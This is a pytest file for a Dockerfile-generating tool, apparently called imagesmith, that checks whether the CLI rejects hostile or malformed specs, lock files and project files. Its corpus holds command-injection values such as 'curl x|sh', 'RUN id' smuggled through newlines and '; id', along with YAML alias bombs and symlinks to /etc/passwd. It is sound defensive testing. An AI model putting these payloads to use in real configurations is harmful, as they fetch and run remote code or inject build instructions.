"""Hostile and broken input: every case goes through the real CLI and must give exit 2, one
readable error (no traceback), a bounded output, and leave every file of the project as it was.

The corpus is built here from the small `tiny` project: each case is a function that breaks
a fresh copy (its spec, its lock, its files) and names the command to run on it. A valid lock is
written for each copy with the real lock code (``compute_inputs`` + ``write_lock``) from a fixed
set of pins, so commands that need a lock (render, lock --check, export) reach the code under test
without a network or an engine.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import stat
from dataclasses import replace
from pathlib import Path

import pytest
import yaml

from imagesmith import fsutil
from imagesmith.errors import FileWriteError
from imagesmith.lock.inputs import compute_inputs, preprocessing_files
from imagesmith.lock.lockfile import write_lock
from imagesmith.spec.load import load_spec
from tests.helpers import cli, cli_in_process, fake_lock

PROJECTS = Path(__file__).resolve().parents[1] / "projects"
MAX_OUTPUT = 4096
SPEC = (PROJECTS / "tiny" / "imagesmith.yaml").read_text()


# --------------------------------------------------------------------------------------------
# The project under attack, and proof that nothing in it changed


# The lock files write_fresh_lock wrote for the first project ({name: bytes}): every project
# here is the same, and the lock holds no path, so the others get the same bytes without the
# lock code's work and fsyncs (one of each per corpus case).
_FRESH_LOCK: dict[str, bytes] = {}


def make_project(root: Path) -> Path:
    shutil.copytree(PROJECTS / "tiny", root, ignore=shutil.ignore_patterns("__pycache__", "*.lock", "Dockerfile*"))
    (root / "signoff").mkdir()
    (root / "signoff" / "samples.jsonl").write_text("[1, 2]\n")
    (root / "requirements.txt").write_text("six==1.17.0\n")
    if not _FRESH_LOCK:
        before = set(os.listdir(root))
        write_fresh_lock(root)
        _FRESH_LOCK.update({name: (root / name).read_bytes() for name in sorted(set(os.listdir(root)) - before)})
    else:
        for name, data in _FRESH_LOCK.items():
            (root / name).write_bytes(data)
    return root


def write_fresh_lock(root: Path) -> None:
    spec = load_spec(root)
    lock = replace(
        fake_lock(),
        inputs=compute_inputs(spec, spec.base),
        env=spec.env,
        seed=spec.seed,
        determinism=spec.determinism,
        preprocessing=tuple(preprocessing_files(spec).items()),
        base=replace(fake_lock().base, name=spec.base),
        system_packages=(),
    )
    write_lock(spec, lock)


def snapshot(root: Path) -> dict:
    """Every entry under root (not following links): its kind, mode and bytes or link target."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in sorted(dirnames + filenames):
            path = Path(dirpath, name)
            st = os.lstat(path)
            if stat.S_ISLNK(st.st_mode):
                out[str(path)] = ("link", os.readlink(path))
            elif stat.S_ISREG(st.st_mode):
                out[str(path)] = ("file", st.st_mode, path.read_bytes())
            else:
                out[str(path)] = ("other", st.st_mode)
    return out


def set_spec(root: Path, text: str | bytes) -> None:
    path = root / "imagesmith.yaml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass"))


def spec_with(root: Path, extra: str, drop: tuple[str, ...] = ()) -> None:
    """The tiny spec with top-level keys in ``drop`` removed and ``extra`` YAML appended."""
    data = yaml.safe_load(SPEC)
    for key in drop:
        data.pop(key, None)
    set_spec(root, yaml.safe_dump(data, sort_keys=False) + extra)


def bomb(levels: int = 9) -> str:
    """A YAML alias bomb: `levels` lists of nine references to the level below."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def edit_lock(root: Path, change) -> None:
    path = root / "imagesmith.lock"
    data = json.loads(path.read_text())
    data = change(data)
    path.write_text(json.dumps(data, indent=2, sort_keys=True) + "\n" if not isinstance(data, str) else data)


# --------------------------------------------------------------------------------------------
# The corpus: (id, break the project, command). {p} is the project folder.

RENDER = ("render", "-p", "{p}", "-o", "-")

SPEC_CASES = [
    # validators and a trailing newline (Python's `$` matches before it; fullmatch does not)
    ("name-newline", lambda r: spec_with(r, 'name: "tiny\\n"\n', drop=("name",)), RENDER),
    ("python-newline", lambda r: spec_with(r, 'python: "3.11\\n"\n', drop=("python",)), RENDER),
    ("artifacts-newline", lambda r: spec_with(r, 'artifacts: "/artifacts\\n"\n'), RENDER),
    ("user-newline", lambda r: spec_with(r, 'user: "imagesmith\\nUSER 0"\n'), RENDER),
    ("user-uid", lambda r: spec_with(r, "user: 0\n"), RENDER),
    # the project's own lock and groups (issue 14)
    ("uv-lock-missing", lambda r: spec_with(r, "requirements: {uv_lock: true}\n", drop=("requirements",)), RENDER),
    ("uv-lock-not-bool", lambda r: spec_with(r, "requirements: {uv_lock: 'yes'}\n", drop=("requirements",)), RENDER),
    (
        "group-injection",
        lambda r: spec_with(r, "requirements: {pyproject: true, groups: ['dev\nRUN id']}\n", drop=("requirements",)),
        RENDER,
    ),
    ("no-requirements-anywhere", lambda r: spec_with(r, "", drop=("requirements",)), RENDER),
    ("env-key-newline", lambda r: spec_with(r, 'env: {"OMP\\n": "1"}\n'), RENDER),
    ("signoff-path-newline", lambda r: spec_with(r, 'signoff: {path: "/predict\\n"}\n'), RENDER),
    ("signoff-predict-newline", lambda r: spec_with(r, 'signoff: {predict: "app.main:predict\\n"}\n'), RENDER),
    ("python-arabic-digit", lambda r: spec_with(r, 'python: "3.١١"\n', drop=("python",)), RENDER),
    ("base-unicode-tag", lambda r: spec_with(r, "base: imagesmith-base:bookwörm\n", drop=("base",)), RENDER),
    # silently accepted before
    ("duplicate-top-key", lambda r: set_spec(r, SPEC + "seed: 8\n"), RENDER),
    ("duplicate-nested-key", lambda r: spec_with(r, "signoff:\n  rtol: 0.1\n  rtol: 0.2\n"), RENDER),
    ("train-no-value", lambda r: spec_with(r, "train:\n", drop=("train",)), RENDER),
    ("serve-no-value", lambda r: spec_with(r, "serve:\n", drop=("serve",)), RENDER),
    ("rtol-nan", lambda r: spec_with(r, "signoff: {rtol: .nan}\n"), RENDER),
    ("atol-inf", lambda r: spec_with(r, "signoff: {atol: .inf}\n"), RENDER),
    ("budget-inf", lambda r: spec_with(r, "serve: {command: [x], latency_budget_ms: .inf}\n", drop=("serve",)), RENDER),
    ("env-value-nan", lambda r: spec_with(r, "env: {A: .nan}\n"), RENDER),
    ("requirements-folder", lambda r: spec_with(r, "requirements: app\n", drop=("requirements",)), RENDER),
    (
        "requirements-file-folder",
        lambda r: spec_with(r, "requirements: {file: app/}\n", drop=("requirements",)),
        RENDER,
    ),
    ("samples-folder", lambda r: spec_with(r, "signoff: {samples: signoff}\n"), RENDER),
    ("name-100k", lambda r: spec_with(r, f"name: {'a' * 100_000}\n", drop=("name",)), RENDER),
    ("env-key-100k", lambda r: spec_with(r, f"env: {{{'K' * 100_000}: v}}\n"), RENDER),
    ("unknown-key-100k", lambda r: spec_with(r, f"{'k' * 100_000}: 1\n"), RENDER),
    # resource bombs
    ("alias-bomb-name", lambda r: spec_with(r, bomb() + "name: *a8\n", drop=("name",)), RENDER),
    ("alias-bomb-env", lambda r: spec_with(r, bomb() + "env: {A: *a8}\n"), RENDER),
    ("alias-bomb-requirements", lambda r: spec_with(r, bomb() + "requirements: *a8\n", drop=("requirements",)), RENDER),
    ("deep-lists", lambda r: set_spec(r, "name: " + "[" * 5000 + "]" * 5000 + "\n"), RENDER),
    ("deep-maps", lambda r: set_spec(r, "x: " + "{a: " * 3000 + "1" + "}" * 3000 + "\n"), RENDER),
    ("medium-deep", lambda r: spec_with(r, "env: " + "[" * 200 + "]" * 200 + "\n"), RENDER),
    ("int-5000-digits", lambda r: spec_with(r, f"seed: 1{'0' * 5000}\n", drop=("seed",)), RENDER),
    ("int-3000-digits", lambda r: spec_with(r, f"seed: 1{'0' * 3000}\n", drop=("seed",)), RENDER),
    ("huge-file", lambda r: set_spec(r, SPEC + "#" + "x" * (2 << 20) + "\n"), RENDER),
    # not text
    ("lone-surrogate-value", lambda r: spec_with(r, 'env: {A: "\\ud800"}\n'), RENDER),
    ("lone-surrogate-key", lambda r: spec_with(r, 'env: {"\\udfff": "1"}\n'), RENDER),
    ("spec-latin1", lambda r: set_spec(r, SPEC.encode() + "# caf\xe9\n".encode("latin-1")), RENDER),
    (
        "requirements-latin1",
        lambda r: (
            spec_with(r, "requirements: requirements.txt\n", drop=("requirements",)),
            (r / "requirements.txt").write_bytes(b"six==1.17.0 # caf\xe9\n"),
        ),
        RENDER,
    ),
    (
        "requirements-include-outside",
        lambda r: (
            spec_with(r, "requirements: requirements.txt\n", drop=("requirements",)),
            (r / "requirements.txt").write_text("-r /etc/passwd\n"),
        ),
        ("lock", "--check", "-p", "{p}"),
    ),
    (
        "requirements-include-fifo",
        lambda r: (
            spec_with(r, "requirements: requirements.txt\n", drop=("requirements",)),
            os.mkfifo(r / "pipe.txt"),
            (r / "requirements.txt").write_text("-r pipe.txt\n"),
        ),
        ("lock", "--check", "-p", "{p}"),
    ),
    # credentials where they do not belong
    ("env-token-name", lambda r: spec_with(r, "env: {HF_TOKEN: abc}\n"), RENDER),
    ("env-password-name", lambda r: spec_with(r, "env: {DB_PASSWORD: abc}\n"), RENDER),
    ("env-token-value", lambda r: spec_with(r, "env: {HELPER: ghp_" + "a" * 36 + "}\n"), RENDER),
    ("env-url-userinfo", lambda r: spec_with(r, "env: {MIRROR: 'https://me:pw@pypi.example.com/simple'}\n"), RENDER),
    ("index-url-userinfo", lambda r: spec_with(r, "index_url: https://__token__:x@pypi.example.com/simple\n"), RENDER),
    ("index-url-query", lambda r: spec_with(r, "index_url: 'https://pypi.example.com/simple?token=x'\n"), RENDER),
    ("extra-index-shell", lambda r: spec_with(r, "extra_index_urls: ['https://h/simple; curl x|sh']\n"), RENDER),
    ("package-index-userinfo", lambda r: spec_with(r, "package_indexes: {six: 'http://u:p@127.0.0.1:9/s'}\n"), RENDER),
    ("package-index-shell", lambda r: spec_with(r, "package_indexes: {six: 'http://127.0.0.1/s; id'}\n"), RENDER),
    (
        "package-index-name-shell",
        lambda r: spec_with(r, "package_indexes: {'six; id': 'http://127.0.0.1/s'}\n"),
        RENDER,
    ),
]

PYPROJECT_CASES = [
    ("tool-not-a-table", 'tool = "imagesmith"\n'),
    ("tool-a-list", "tool = [1, 2]\n"),
    ("imagesmith-not-a-table", "[tool]\nimagesmith = 3\n"),
    ("pyproject-latin1", b"[tool.imagesmith]\nname = 'caf\xe9'\n"),
    ("pyproject-int-5000-digits", "[tool.imagesmith]\nseed = 1" + "0" * 5000 + "\n"),
    ("pyproject-deep", "[tool.imagesmith]\nname = " + "[" * 5000 + "]" * 5000 + "\n"),
]


def _link_out(r: Path) -> None:
    os.symlink("/etc/passwd", r / "app" / "passwd.py")


FILE_CASES = [
    (
        "prep-dangling-link",
        lambda r: (
            spec_with(r, "preprocessing: [app]\n", drop=("preprocessing",)),
            os.symlink("missing.py", r / "app" / "gone.py"),
        ),
        RENDER,
    ),
    (
        "prep-link-loop",
        lambda r: (
            spec_with(r, "preprocessing: [app]\n", drop=("preprocessing",)),
            os.symlink("loop", r / "app" / "loop"),
        ),
        RENDER,
    ),
    (
        "prep-fifo",
        lambda r: (spec_with(r, "preprocessing: [app]\n", drop=("preprocessing",)), os.mkfifo(r / "app" / "pipe.py")),
        ("lock", "--check", "-p", "{p}"),
    ),
    (
        "prep-link-out",
        lambda r: (spec_with(r, "preprocessing: [app]\n", drop=("preprocessing",)), _link_out(r)),
        ("export", "preprocessing", "-p", "{p}", "-o", "{p}/dist"),
    ),
    (
        "prep-dir-link-out",
        lambda r: (
            spec_with(r, "preprocessing: [app]\n", drop=("preprocessing",)),
            os.symlink("/etc", r / "app" / "etc"),
        ),
        ("export", "preprocessing", "-p", "{p}", "-o", "{p}/dist"),
    ),
    (
        "prep-named-link-out",
        lambda r: (
            os.symlink("/etc/hostname", r / "host.py"),
            spec_with(r, "preprocessing: [host.py]\n", drop=("preprocessing",)),
        ),
        RENDER,
    ),
    (
        "source-link-loop",
        lambda r: (os.symlink("self", r / "self"), spec_with(r, "source: [self]\n", drop=("source",))),
        RENDER,
    ),
    (
        "samples-latin1",
        lambda r: (
            spec_with(r, "signoff: {predict: 'app.main:predict', samples: signoff/samples.jsonl}\n"),
            (r / "signoff" / "samples.jsonl").write_bytes(b'"caf\xe9"\n'),
        ),
        ("golden", "-p", "{p}"),
    ),
    (
        "samples-deep",
        lambda r: (
            spec_with(r, "signoff: {predict: 'app.main:predict', samples: signoff/samples.jsonl}\n"),
            (r / "signoff" / "samples.jsonl").write_text("[" * 100_000 + "]" * 100_000 + "\n"),
        ),
        ("golden", "-p", "{p}"),
    ),
    ("export-onto-a-file", lambda r: None, ("export", "preprocessing", "-p", "{p}", "-o", "{p}/imagesmith.yaml")),
    ("export-under-a-file", lambda r: None, ("export", "preprocessing", "-p", "{p}", "-o", "{p}/imagesmith.yaml/x")),
    ("export-unmakeable", lambda r: None, ("export", "preprocessing", "-p", "{p}", "-o", "/proc/imagesmith-no")),
    ("render-into-missing-folder", lambda r: None, ("render", "-p", "{p}", "-o", "{p}/no/such/Dockerfile")),
    ("render-onto-folder", lambda r: None, ("render", "-p", "{p}", "-o", "{p}/app")),
    ("render-under-a-file", lambda r: None, ("render", "-p", "{p}", "-o", "{p}/imagesmith.yaml/Dockerfile")),
]

LOCK_CASES = [
    ("lock-list", lambda d: []),
    ("lock-null", lambda d: None),
    ("lock-string", lambda d: "x"),
    ("lock-deep", lambda d: "[" * 100_000 + "]" * 100_000),
    ("lock-int-5000-digits", lambda d: '{"imagesmith_lock": 1' + "0" * 5000 + "}"),
    ("lock-seed-huge", lambda d: {**d, "environment": {**d["environment"], "seed": 10**4000}}),
    ("lock-not-json", lambda d: '{"imagesmith_lock": 1,'),
    (
        "system-version-injection",
        lambda d: {
            **d,
            "system_packages": [{"name": "libgomp1", "version": "1.0 && curl http://x|sh\nRUN echo pwned"}],
        },
    ),
    ("system-name-injection", lambda d: {**d, "system_packages": [{"name": "a b", "version": "1"}]}),
    ("base-name-injection", lambda d: {**d, "base": {**d["base"], "name": "x\nRUN id"}}),
    ("base-digest-short", lambda d: {**d, "base": {**d["base"], "digest": "sha256:abc"}}),
    ("package-hash-bad", lambda d: {**d, "packages": [{"name": "six", "version": "1.17.0", "hashes": ["md5:x"]}]}),
    (
        "package-version-space",
        lambda d: {**d, "packages": [{"name": "six", "version": "1 --index-url x", "hashes": ["sha256:" + "b" * 64]}]},
    ),
    ("package-list-of-strings", lambda d: {**d, "packages": ["six"]}),
    ("env-newline", lambda d: {**d, "environment": {**d["environment"], "env": {"A": "1\nRUN id"}}}),
    ("env-credential", lambda d: {**d, "environment": {**d["environment"], "env": {"API_TOKEN": "x"}}}),
    ("seed-bool", lambda d: {**d, "environment": {**d["environment"], "seed": True}}),
    (
        "preprocessing-escape",
        lambda d: {**d, "preprocessing": {**d["preprocessing"], "files": {"../x.py": "sha256:" + "c" * 64}}},
    ),
    ("target-python-newline", lambda d: {**d, "target": {**d["target"], "python": "3.11\n"}}),
    ("index-with-credentials", lambda d: {**d, "indexes": {"index_url": "https://u:p@h/simple"}}),
    (
        "package-index-with-credentials",
        lambda d: {**d, "indexes": {"package_indexes": {"six": "http://u:p@127.0.0.1:9/simple"}}},
    ),
    ("package-index-name-injection", lambda d: {**d, "indexes": {"package_indexes": {"six' x": "http://127.0.0.1/s"}}}),
    ("inputs-a-list", lambda d: {**d, "inputs": []}),
]


def _cases():
    for case_id, breaker, argv in SPEC_CASES + FILE_CASES:
        yield pytest.param(breaker, argv, id=case_id)
    for case_id, text in PYPROJECT_CASES:

        def breaker(r, text=text):
            os.unlink(r / "imagesmith.yaml")
            (r / "pyproject.toml").write_bytes(text if isinstance(text, bytes) else text.encode())

        yield pytest.param(breaker, RENDER, id=case_id)
    for case_id, change in LOCK_CASES:
        for argv in (RENDER, ("lock", "--check", "-p", "{p}")):
            yield pytest.param(lambda r, change=change: edit_lock(r, change), argv, id=f"{case_id}-{argv[0]}")


@pytest.mark.parametrize("breaker,argv", list(_cases()))
def test_hostile_input_is_refused_cleanly(tmp_path, breaker, argv):
    root = make_project(tmp_path / "p")
    breaker(root)
    before = snapshot(root)
    proc = cli_in_process(*(a.format(p=root) for a in argv))
    output = proc.stdout + proc.stderr
    assert proc.returncode == 2, output[:2000]
    assert "Traceback" not in output, output[:4000]
    assert output.startswith("error: ") and len(output.encode()) < MAX_OUTPUT, output[:2000]
    assert snapshot(root) == before


def test_the_unbroken_project_renders(tmp_path):
    """The corpus breaks something that works: the same project, unbroken, renders (exit 0)."""
    root = make_project(tmp_path / "p")
    proc = cli("render", "-p", str(root), "-o", "-")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith("# Generated by imagesmith")


def test_a_spec_linked_from_elsewhere_is_refused(tmp_path):
    """A spec symlinked into a folder must not move the project root to the link's target."""
    elsewhere = make_project(tmp_path / "elsewhere")
    victim = tmp_path / "victim"
    victim.mkdir()
    os.symlink(elsewhere / "imagesmith.yaml", victim / "imagesmith.yaml")
    before = snapshot(tmp_path)
    proc = cli("render", "-p", str(victim), check_traceback=False)
    assert proc.returncode == 2 and "symlink that leaves the project" in proc.stderr, proc.stderr
    assert snapshot(tmp_path) == before


# --------------------------------------------------------------------------------------------
# Writing: nothing half-written, errors named


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EACCES, errno.EROFS])
def test_atomic_write_failure_leaves_the_old_file(tmp_path, monkeypatch, code):
    target = tmp_path / "Dockerfile"
    target.write_text("old\n")
    real_fdopen = os.fdopen

    class Full:
        def __init__(self, fh):
            self.fh = fh

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.fh.close()

        def write(self, data):
            raise OSError(code, os.strerror(code))

    monkeypatch.setattr(fsutil.os, "fdopen", lambda fd, mode: Full(real_fdopen(fd, mode)))
    with pytest.raises(FileWriteError) as info:
        fsutil.atomic_write(target, "new\n")
    assert os.strerror(code) in str(info.value) and str(target) in str(info.value)
    assert target.read_text() == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["Dockerfile"]  # no temporary file left


def test_render_o_into_a_missing_folder_names_it(tmp_path):
    root = make_project(tmp_path / "p")
    proc = cli("render", "-p", str(root), "-o", str(root / "no" / "Dockerfile"), check_traceback=False)
    assert proc.returncode == 2 and "does not exist" in proc.stderr and "Traceback" not in proc.stderr


# --------------------------------------------------------------------------------------------
# On the real engine


# --------------------------------------------------------------------------------------------
# No package's build code on the host (these reach the package index; grouped with the engine tier)
